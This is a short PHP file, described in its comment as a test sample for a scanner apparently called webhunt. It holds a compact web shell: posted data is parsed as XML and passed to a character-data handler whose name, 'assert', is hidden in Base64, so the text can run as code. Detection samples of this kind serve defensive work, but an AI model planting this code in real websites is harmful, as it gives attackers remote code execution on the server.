<?php
// Inert test sample for webhunt: the posted XML document's text is handed to a handler whose name
// is kept in Base64 ("assert"), registered with xml_set_character_data_handler.
$p = xml_parser_create();
xml_set_character_data_handler($p, base64_decode('YXNzZXJ0'));
xml_parse($p, '<a>' . $_POST['d'] . '</a>', true);
xml_parser_free($p);
